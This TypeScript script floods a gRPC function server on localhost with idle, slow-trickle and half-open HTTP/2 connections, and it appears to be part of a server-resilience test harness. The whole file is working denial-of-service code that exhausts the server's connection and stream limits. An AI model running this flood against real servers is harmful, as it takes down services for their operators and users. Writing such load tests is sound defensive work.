/**
 * Attacks a function server: `node flood.ts PORT PROBE_PORT` with a client's certificate in CA, CERT and KEY.
 * Reports to its parent once everything is open, and leaves it open.
 */
import { connect as connectHttp2, type ClientHttp2Session, type ClientHttp2Stream } from 'node:http2';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

const [port = 0, probePort = 0] = process.argv.slice(2).map(Number);
const { CA: ca = '', CERT: cert = '', KEY: key = '' } = process.env;
const idle = 9000;
const slow = 500;
const sessions = 50;
const streamsPerSession = 100;

/** The first bytes of connections that wait: none, the header of a TLS record, and another protocol. */
const beginnings = ['', '1603010200', '474554202f20485454502f312e310d0a'].map((hex) => Buffer.from(hex, 'hex'));
/** A TLS handshake of 512 bytes. */
const hello = Buffer.concat([Buffer.from('1603010200010001fc0303', 'hex'), Buffer.alloc(506)]);

function open(to: number, bytes = Buffer.alloc(0)): Socket {
  const socket = connect(to, '127.0.0.1', () => socket.write(bytes));
  return socket.on('error', () => {});
}

async function openSession(): Promise<ClientHttp2Session> {
  const session = connectHttp2(`https://127.0.0.1:${port}`, { ca, cert, key, servername: 'localhost' });
  session.on('error', () => {});
  await Promise.race([new Promise((resolve) => session.once('connect', resolve).once('close', resolve)), sleep(5000)]);
  return session;
}

/** A call that announces 1,000 bytes and does not end. */
function beginCall(session: ClientHttp2Session): ClientHttp2Stream | undefined {
  if (session.closed || session.destroyed) return undefined;
  const path = '/apiextensions.fn.proto.v1.FunctionRunnerService/RunFunction';
  const headers = { ':method': 'POST', ':path': path, 'content-type': 'application/grpc', te: 'trailers' };
  const stream = session.request(headers, { endStream: false });
  stream.on('error', () => {});
  stream.write(Buffer.from([0, 0, 0, 3, 232]));
  return stream;
}

for (let index = 0; index < idle; index += 1) {
  open(index % 10 === 0 ? probePort : port, beginnings[index % beginnings.length]);
  if (index % 100 === 99) await sleep(1);
}
const trickles: (() => unknown)[] = [];
for (let index = 0; index < slow / 2; index += 1) {
  const socket = open(port);
  let sent = 0;
  trickles.push(() => socket.writable && socket.write(hello.subarray(sent, (sent += 1))));
  const stream = beginCall(await openSession());
  trickles.push(() => stream?.writable && stream.write(Buffer.from([0])));
}
setInterval(() => trickles.forEach((trickle) => trickle()), 1000);
let streams = 0;
for (let index = 0; index < sessions; index += 1) {
  const session = await openSession();
  for (let stream = 0; stream < streamsPerSession; stream += 1) streams += beginCall(session) === undefined ? 0 : 1;
}
process.send?.(`${idle} idle, ${slow} slow, ${streams} half open`);
